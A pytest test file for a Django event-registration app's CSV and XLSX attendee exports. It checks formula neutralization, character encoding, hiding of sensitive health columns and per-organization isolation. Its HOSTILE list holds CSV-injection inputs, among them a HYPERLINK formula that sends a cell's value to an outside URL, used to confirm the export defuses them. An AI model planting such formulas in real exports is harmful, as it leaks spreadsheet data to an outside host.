import codecs
import csv
import io

import openpyxl
import pytest

from attendees import exports
from attendees.models import AccessLog
from registrations.models import Answer, Question, Registration
from tests.factories import (
    ChoiceFactory,
    EventFactory,
    OrganizationFactory,
    QuestionFactory,
    RegistrationFactory,
    RegistrationFormFactory,
)

from .attendee_helpers import organizer, question, two_organizations

pytestmark = pytest.mark.django_db

HOSTILE = [
    "=1+1",
    "+48 600 000 000",
    "-5",
    "@SUM(A1)",
    "\tTab",
    "\rReturn",
    '=HYPERLINK("http://x?d="&A1)',
]


def _csv_text(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8")


def _csv_rows(response) -> list[list[str]]:
    text = _csv_text(response)
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _xlsx(response):
    data = b"".join(response.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(data))


@pytest.fixture
def hostile_event():
    organization = OrganizationFactory()
    event = EventFactory(organization=organization)
    free_text = question(event, label="Uwagi")
    for index, value in enumerate(HOSTILE):
        registration = RegistrationFactory(
            event=event, first_name=value, last_name=f"Zażółć{index}", organization_name=value
        )
        Answer.objects.create(registration=registration, question=free_text, value=value)
    return event


def test_neutralize_formula_prefixes_every_trigger_character():
    values = ["=a", "+a", "-a", "@a", "\ta", "\ra", "\0a", "a=b", "Łódź"]

    assert [exports.neutralize_formula(value) for value in values] == [
        "'=a",
        "'+a",
        "'-a",
        "'@a",
        "'\ta",
        "'\ra",
        "'\0a",
        "a=b",
        "Łódź",
    ]


def test_csv_export_neutralizes_formulas_and_round_trips(hostile_event):
    user = organizer(hostile_event.organization)
    registrations = Registration.objects.filter(event=hostile_event)

    response = exports.export_response(
        user=user,
        registrations=registrations,
        keys=["first_name", "organization", "q" + str(hostile_event.registration_form.questions.get().pk)],
        fmt="csv",
        filename="x",
    )
    rows = _csv_rows(response)

    expected = sorted(("'" + value,) * 3 for value in HOSTILE)
    assert sorted(tuple(row) for row in rows[1:]) == expected
    for row in rows[1:]:
        assert all(not cell.startswith(exports.FORMULA_TRIGGERS) for cell in row)


def test_csv_export_starts_with_bom_and_keeps_polish_and_ukrainian_letters():
    event = EventFactory()
    RegistrationFactory(
        event=event, first_name="Євгенія", last_name="Щербань ґ ї", organization_name="Zażółć gęślą jaźń Łódź"
    )
    user = organizer(event.organization)

    response = exports.export_response(
        user=user,
        registrations=Registration.objects.filter(event=event),
        keys=["first_name", "last_name", "organization"],
        fmt="csv",
        filename="x",
    )
    raw = b"".join(response.streaming_content)

    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[1] == ["Євгенія", "Щербань ґ ї", "Zażółć gęślą jaźń Łódź"]
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_xlsx_export_has_no_formula_cells_and_keeps_the_typed_text(hostile_event):
    user = organizer(hostile_event.organization)

    response = exports.export_response(
        user=user,
        registrations=Registration.objects.filter(event=hostile_event),
        keys=["first_name", "last_name"],
        fmt="xlsx",
        filename="x",
    )
    workbook = _xlsx(response)
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert [cell for cell in cells if cell.data_type == "f"] == []
    # A carriage return becomes a line feed; every other character survives as typed.
    expected = sorted(value.replace("\r", "\n") for value in HOSTILE)
    assert sorted(row[0] for row in sheet.iter_rows(min_row=2, values_only=True)) == expected
    assert {row[1][:6] for row in sheet.iter_rows(min_row=2, values_only=True)} == {"Zażółć"}


def test_export_contains_every_answer_as_a_column():
    event = EventFactory()
    first, second = question(event, label="Skąd wiesz?"), question(event, label="Dieta")
    registration = RegistrationFactory(event=event)
    Answer.objects.create(registration=registration, question=first, value="Facebook")
    Answer.objects.create(registration=registration, question=second, value="wegańska")
    user = organizer(event.organization)

    response = exports.export_response(
        user=user, registrations=Registration.objects.filter(event=event), keys=None, fmt="csv", filename="x"
    )
    header, row = _csv_rows(response)

    assert row[header.index("Skąd wiesz?")] == "Facebook"  # question labels are content, not translated
    assert row[header.index("Dieta")] == "wegańska"


def test_export_hides_sensitive_columns_from_organizers_without_permission():
    event = EventFactory()
    health = question(event, label="Zdrowie", is_sensitive=True)
    registration = RegistrationFactory(event=event, accessibility_needs="wózek")
    Answer.objects.create(registration=registration, question=health, value="cukrzyca")
    plain = organizer(event.organization)
    allowed = organizer(event.organization, sensitive=True)
    registrations = Registration.objects.filter(event=event)

    hidden = _csv_text(
        exports.export_response(user=plain, registrations=registrations, keys=None, fmt="csv", filename="x")
    )
    shown = _csv_text(
        exports.export_response(user=allowed, registrations=registrations, keys=None, fmt="csv", filename="x")
    )

    assert "wózek" not in hidden and "cukrzyca" not in hidden and "Zdrowie" not in hidden
    assert "wózek" in shown and "cukrzyca" in shown
    assert list(AccessLog.objects.filter(user=allowed).values_list("action", flat=True)) == [
        "export_csv_sensitive"
    ]
    assert list(AccessLog.objects.filter(user=plain).values_list("action", flat=True)) == ["export_csv"]


def test_export_contains_no_rows_of_another_organization():
    org_a, _org_b, _event_a, _event_b = two_organizations()
    user = organizer(org_a)

    response = exports.export_response(
        user=user, registrations=Registration.objects.all(), keys=None, fmt="csv", filename="x"
    )
    text = _csv_text(response)

    assert "MARKERB" not in text
    assert (
        len(
            _csv_rows(
                exports.export_response(
                    user=user, registrations=Registration.objects.all(), keys=None, fmt="csv", filename="x"
                )
            )
        )
        == 2
    )


def test_xlsx_export_replaces_characters_xml_cannot_hold_and_csv_keeps_them():
    event = EventFactory()
    remark = question(event, label="Uwagi\x1b")
    values = ["Anna\x1b[31m", "\x01=1+1", "Łódź\x07\x0b\x0c\ufffe", "tab\tand\r\nline"]
    for value in values:
        registration = RegistrationFactory(event=event, first_name="Ola", organization_name=value)
        Answer.objects.create(registration=registration, question=remark, value=value)
    user = organizer(event.organization)
    registrations = Registration.objects.filter(event=event)
    keys = ["organization", "q" + str(remark.pk)]

    response = exports.export_response(
        user=user, registrations=registrations, keys=keys, fmt="xlsx", filename="x"
    )

    assert response.status_code == 200
    rows = list(_xlsx(response).active.iter_rows(values_only=True))
    assert rows[0][1] == "Uwagi\ufffd"
    expected = ["Anna\ufffd[31m", "\ufffd=1+1", "Łódź\ufffd\ufffd\ufffd\ufffd", "tab\tand\nline"]
    assert sorted(row[0] for row in rows[1:]) == sorted(expected)
    assert sorted(row[1] for row in rows[1:]) == sorted(expected)
    csv_rows = _csv_rows(
        exports.export_response(user=user, registrations=registrations, keys=keys, fmt="csv", filename="x")
    )
    assert csv_rows[0][1] == "Uwagi\x1b"
    assert sorted(row[0] for row in csv_rows[1:]) == sorted(
        exports.neutralize_formula(value) for value in values
    )


def test_export_shows_each_chosen_option_once():
    event = EventFactory()
    form = RegistrationFormFactory(event=event)
    kind = QuestionFactory(form=form, label="Sektor", kind=Question.Kind.MULTIPLE_CHOICE)
    public = ChoiceFactory(question=kind, label_pl="Samorząd", label_uk="Самоврядування")
    local = ChoiceFactory(question=kind, label_pl="NGO")
    # The registration form stores the chosen labels as the answer's text, beside the options themselves.
    from_form = RegistrationFactory(event=event, last_name="A")
    answer = Answer.objects.create(registration=from_form, question=kind, value="Samorząd; NGO")
    answer.choices.set([public, local])
    # An import keeps text that matched no option as the free answer.
    imported = RegistrationFactory(event=event, last_name="B")
    answer = Answer.objects.create(registration=imported, question=kind, value="szkoła")
    answer.choices.set([public])
    # Someone who registered in Ukrainian has the Ukrainian label stored.
    in_ukrainian = RegistrationFactory(event=event, last_name="C")
    answer = Answer.objects.create(registration=in_ukrainian, question=kind, value="Самоврядування")
    answer.choices.set([public])

    response = exports.export_response(
        user=organizer(event.organization),
        registrations=Registration.objects.filter(event=event),
        keys=["last_name", f"q{kind.pk}"],
        fmt="csv",
        filename="x",
    )

    assert _csv_rows(response)[1:] == [
        ["A", "Samorząd; NGO"],
        ["B", "Samorząd; szkoła"],
        ["C", "Samorząd"],
    ]
